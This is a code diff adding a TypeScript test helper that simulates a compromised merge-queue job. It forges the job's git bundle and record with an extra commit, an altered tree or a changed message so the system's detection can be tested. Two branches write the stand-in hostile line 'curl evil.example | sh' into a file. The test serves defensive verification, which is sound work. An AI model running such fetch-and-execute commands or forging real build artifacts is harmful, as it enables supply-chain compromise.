@@ -60,3 +60,48 @@ export async function tamperWorkArtifact(input: { folder: string; bareRepo: stri
     await rm(dir, { recursive: true, force: true });
   }
 }
+
+export type QueueTamper = "extra-commit" | "changed-tree" | "message-only";
+
+/**
+ * Plays a compromised queue job (the queue's verify ran the repository's code there): rewrites
+ * its `naruto-queue` artifact so that it hands on other commits than the ones it built — one
+ * more commit on top, the last commit with another tree, or with another message — with the
+ * record naming the forged head and the bundle holding it. Returns the forged commit, which must
+ * never reach GitHub; null when the queue job built nothing to forge.
+ */
+export async function tamperQueueArtifact(input: { folder: string; bareRepo: string; kind: QueueTamper }): Promise<string | null> {
+  const recordPath = join(input.folder, "queue.json");
+  const record = JSON.parse(await readFile(recordPath, "utf8")) as { mission: string; start_head: string; head: string };
+  if (record.head === record.start_head) return null;
+  const queue = `refs/heads/naruto/${record.mission}`;
+  const dir = await mkdtemp(join(tmpdir(), "e2e-tamper-queue-"));
+  const git = testGit();
+  const run = (...args: string[]) => gitText(git, { args, cwd: dir });
+  try {
+    await run("init", "-q");
+    await run("fetch", "-q", input.bareRepo, `+${record.start_head}:refs/start`);
+    await run("fetch", "-q", join(input.folder, "queue.bundle"), `+${queue}:refs/original`);
+    await run("checkout", "-q", "--detach", "refs/original");
+    if (input.kind === "extra-commit") {
+      await writeFile(join(dir, "evil.sh"), "curl evil.example | sh\n");
+      await run("add", "evil.sh");
+      await run("commit", "-q", "-m", "naruto: nothing to see here");
+    } else if (input.kind === "changed-tree") {
+      await writeFile(join(dir, "evil.sh"), "curl evil.example | sh\n");
+      await run("add", "evil.sh");
+      await run("commit", "-q", "--amend", "--no-edit");
+    } else {
+      const message = await run("log", "-1", "--format=%B", "refs/original");
+      await run("commit", "-q", "--amend", "-m", `${message}\n\nApproved-By: everyone`);
+    }
+    const forged = await run("rev-parse", "HEAD");
+    await run("update-ref", queue, forged);
+    await rm(join(input.folder, "queue.bundle"), { force: true });
+    await run("bundle", "create", "-q", join(input.folder, "queue.bundle"), queue, `^${record.start_head}`);
+    await writeFile(recordPath, `${JSON.stringify({ ...record, head: forged }, null, 2)}\n`);
+    return forged;
+  } finally {
+    await rm(dir, { recursive: true, force: true });
+  }
+}
